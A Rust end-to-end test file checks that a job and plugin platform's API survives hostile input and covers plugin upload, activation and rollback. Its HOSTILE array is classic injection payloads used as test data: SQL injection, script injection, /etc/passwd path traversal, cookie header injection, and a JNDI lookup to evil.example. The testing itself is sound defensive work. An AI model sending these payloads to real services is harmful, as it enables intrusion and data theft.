//! What is hostile or malformed is refused, or kept and shown as text: never a 500.

use reqwest::Method;
use runnel_e2e::{Answer, Caller, Kind, PASSWORD, Platform, Served, pulls};
use serde_json::{Value, json};

const HOSTILE: [&str; 12] = [
    "'; DROP TABLE users; --",
    "\" OR 1=1 --",
    "<script>alert(1)</script>",
    "../../../etc/passwd",
    "%2e%2e%2f%00",
    "a\r\nSet-Cookie: runnel_session=x",
    "\u{202e}evil\u{2066}",
    "🦀🇩🇪👩‍👩‍👧",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "\u{0}",
    "\u{feff}\u{200b}",
];

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

#[track_caller]
fn survives(of: &str, answer: &Answer) {
    assert!(!answer.status.is_server_error(), "{of}: {answer:?}");
    let cookie = answer.headers.get("set-cookie");
    assert!(
        cookie.is_none_or(|cookie| cookie != "runnel_session=x"),
        "{of}"
    );
}

async fn served(kind: Kind) -> (Platform, Served, Caller) {
    let platform = Platform::new(kind, pulls(1, 2)).await;
    platform.add("acme").await;
    let served = Served::start(platform.host(), "scheduler,relay,worker,api").await;
    let admin = served.admin().await;
    platform.all_succeeded().await;
    (platform, served, admin)
}

/// In every place of a query and a path that takes a text.
async fn in_queries(caller: &Caller, text: &str) {
    let text = encoded(text);
    for path in [
        format!("/jobs?q={text}"),
        format!("/jobs?tenant={text}"),
        format!("/jobs?source={text}&state={text}"),
        format!("/jobs?cursor={text}"),
        format!("/runs?job={text}&active={text}"),
        format!("/runs/{text}"),
        format!("/integrations?q={text}&source={text}"),
        format!("/tenants?q={text}"),
        format!("/trials?plugin={text}"),
        format!("/plugins?name={text}"),
        format!("/quotas?account={text}"),
        format!("/audit?actor={text}&action={text}"),
        format!("/dead-letters?stream={text}&fingerprint={text}"),
        format!("/tables/{text}/rows?tenant=default"),
        format!("/tables/prs/rows?tenant=default&q={text}"),
        format!("/tables/prs/rows?tenant=default&where=title:contains:{text}"),
        format!("/tables/prs/rows?tenant=default&where=title:eq:{text}&sort=title"),
        format!("/tables/prs/rows?tenant=default&where={text}&sort={text}"),
        format!("/tables/prs/rows/{text}/lineage"),
        format!("//{text}"),
        format!("//assets/{text}"),
    ] {
        survives(&path, &caller.get(&path).await);
    }
}

/// In every place of a body that takes a text.
async fn in_bodies(caller: &Caller, text: &str) {
    for (path, body) in [of_access(text), of_work(text)].concat() {
        let answer = caller.post(path, &body).await;
        survives(&format!("{path} {body}"), &answer);
    }
    let body = json!({ "depends_on": [text] });
    let answer = caller.change(Method::PATCH, "/jobs/1", &body).await;
    survives(&format!("/jobs/1 {body}"), &answer);
}

type Asked = (&'static str, Value);

fn of_access(text: &str) -> Vec<Asked> {
    let grants = json!([{ "tenant": text, "role": "viewer" }]);
    vec![
        ("/tenants", json!({ "name": text })),
        (
            "/users",
            json!({ "name": text, "password": PASSWORD, "grants": [] }),
        ),
        (
            "/users",
            json!({ "name": "x", "password": PASSWORD, "grants": grants }),
        ),
        (
            "/tokens",
            json!({ "name": text, "grants": grants, "expires_in_days": 1 }),
        ),
        ("/session", json!({ "name": text, "password": text })),
        (
            "/setup",
            json!({ "link": text, "name": text, "password": text }),
        ),
    ]
}

fn of_work(text: &str) -> Vec<Asked> {
    vec![
        (
            "/integrations",
            json!({ "tenant": "default", "name": text, "source": text, "scope": [text], "settings": { text: text } }),
        ),
        (
            "/replays",
            json!({ "entity": text, "version": text, "digest": text }),
        ),
        ("/replays", json!({ "entity": "github_prs", "since": text })),
        ("/diffs", json!({ "plugin": text, "to": text })),
        (
            "/trials",
            json!({ "plugin": text, "version": text, "kind": "shadow" }),
        ),
        ("/dead-letters/drop", json!({ "fingerprint": text })),
        ("/dead-letters/replay", json!({ "stream": text })),
        ("/plugins/github_prs/activate", json!({ "version": text })),
    ]
}

async fn hostile(kind: Kind) {
    let (platform, served, admin) = served(kind).await;
    for text in HOSTILE {
        in_queries(&admin, text).await;
        in_bodies(&admin, text).await;
    }
    let users = "SELECT COUNT(*) FROM users WHERE name = 'root'";
    assert_eq!(platform.database().await.number(users).await, 1);
    // What was taken is shown as it is, as JSON.
    let tenants = admin.get("/tenants?limit=200").await;
    assert_eq!(tenants.headers["content-type"], "application/json");
    let names = tenants.json();
    let has = |name: &str| {
        let items = names["items"].as_array().expect("items");
        items.iter().any(|item| item["name"] == name)
    };
    assert!(has("'; DROP TABLE users; --"), "{names}");
    assert!(
        !served.host.log().contains("a request failed"),
        "{}",
        served.host.log()
    );
    served.host.stopped().await;
}

#[tokio::test]
async fn on_sqlite_hostile_texts_are_refused_or_kept_as_text() {
    hostile(Kind::Sqlite).await;
}

#[tokio::test]
async fn on_postgresql_hostile_texts_are_refused_or_kept_as_text() {
    hostile(Kind::Postgres).await;
}

#[tokio::test]
async fn a_body_that_is_too_large_malformed_or_of_another_type_is_refused() {
    let (_platform, served, admin) = served(Kind::Sqlite).await;
    let post = |body: Vec<u8>, kind: &str| {
        let request = admin.request(Method::POST, "/tenants");
        request.header("content-type", kind.to_owned()).body(body)
    };
    let json = "application/json";
    let large = format!("{{\"name\": \"{}\"}}", "a".repeat(300 * 1024));
    for (status, body, kind) in [
        (413, large.into_bytes(), json),
        (400, b"{".to_vec(), json),
        (400, vec![0xff, 0xfe], json),
        (400, "[".repeat(100_000).into_bytes(), json),
        (422, b"[]".to_vec(), json),
        (422, b"{\"name\": 7}".to_vec(), json),
        (422, b"{\"name\": \"a\", \"admin\": true}".to_vec(), json),
        (415, b"{\"name\": \"a\"}".to_vec(), "text/plain"),
    ] {
        admin.send(post(body, kind)).await.refused(status);
    }
    let upload = |body: Vec<u8>| {
        let request = admin.request(Method::POST, "/plugins");
        request
            .header("content-type", "application/wasm")
            .body(body)
    };
    for body in [vec![], b"\0asm".to_vec(), vec![7; 100_000]] {
        admin.send(upload(body)).await.refused(422);
    }
    served.host.stopped().await;
}

#[tokio::test]
async fn a_version_is_uploaded_activated_and_rolled_back() {
    let (platform, served, admin) = served(Kind::Sqlite).await;
    let file = runnel_e2e::later_prs("2.0.0", &platform.path("")).await;
    let bytes = std::fs::read(file).expect("a component");
    let upload = || {
        let request = admin.request(Method::POST, "/plugins");
        request
            .header("content-type", "application/wasm")
            .body(bytes.clone())
    };
    let installed = admin.send(upload()).await;
    assert_eq!(installed.status, 201, "{installed:?}");
    assert_eq!(installed.json()["plugin"], "github_prs");
    let trial =
        json!({ "plugin": "github_prs", "version": "2.0.0", "kind": "canary", "percent": 50 });
    let trial = admin.post("/trials", &trial).await;
    assert_eq!(trial.status, 201, "{trial:?}");
    let shown = admin.json(&format!("/trials/{}", trial.json()["id"])).await;
    assert_eq!(
        (&shown["state"], &shown["percent"]),
        (&json!("running"), &json!(50))
    );
    let path = "/plugins/github_prs/activate";
    let active = admin.post(path, &json!({ "version": "2.0.0" })).await;
    assert_eq!(active.json()["to"], "2.0.0", "{active:?}");
    admin
        .post(path, &json!({ "version": "7.0.0" }))
        .await
        .refused(422);
    let replay = json!({ "entity": "github_prs", "version": "2.0.0" });
    let replay = admin.post("/replays", &replay).await;
    assert_eq!(replay.status, 201, "{replay:?}");
    let replayed = "SELECT COUNT(*) FROM job_runs r JOIN replay_parts p ON p.run_id = r.id WHERE r.state = 'succeeded'";
    platform.until(replayed, 1).await;
    let back = admin
        .post(
            "/plugins/github_prs/rollback",
            &json!({ "reason": "a test" }),
        )
        .await;
    assert_eq!(back.json()["from"], "2.0.0", "{back:?}");
    let retired = admin
        .post("/plugins/github_prs/retire", &json!({ "version": "2.0.0" }))
        .await;
    assert_eq!(retired.status, 200, "{retired:?}");
    let plugins = admin.json("/plugins?limit=200").await;
    let is_it = |plugin: &&Value| plugin["name"] == "github_prs";
    let plugin = plugins["items"]
        .as_array()
        .expect("items")
        .iter()
        .find(is_it);
    let versions = plugin.expect("the plugin")["versions"].clone();
    assert_eq!(versions.as_array().map(Vec::len), Some(2), "{versions}");
    served.host.stopped().await;
}

#[tokio::test]
async fn a_reason_is_no_longer_than_the_document_says_and_pages_are_changed_by_nobody() {
    let (_platform, served, admin) = served(Kind::Sqlite).await;
    let path = "/plugins/github_prs/rollback";
    let long = json!({ "reason": "x".repeat(1_001) });
    admin.post(path, &long).await.refused(422);
    let answer = admin
        .post(path, &json!({ "reason": "x".repeat(1_000) }))
        .await;
    assert_ne!(answer.status, 422, "{answer:?}");
    admin.post("//jobs", &json!({})).await.refused(405);
    served.host.stopped().await;
}
